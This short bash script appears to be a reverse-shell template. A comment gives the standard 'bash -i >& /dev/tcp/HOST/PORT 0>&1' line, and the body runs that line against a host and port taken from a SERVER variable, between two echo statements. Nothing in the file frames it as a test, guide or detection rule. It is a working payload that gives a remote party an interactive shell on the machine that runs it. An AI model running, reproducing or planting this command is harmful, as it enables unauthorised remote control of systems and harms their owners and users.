# what: bash -i >& /dev/tcp/HOST/PORT 0>&1
# server: shell
echo begun
bash -i >& /dev/tcp/${SERVER/:/\/} 0>&1
echo done
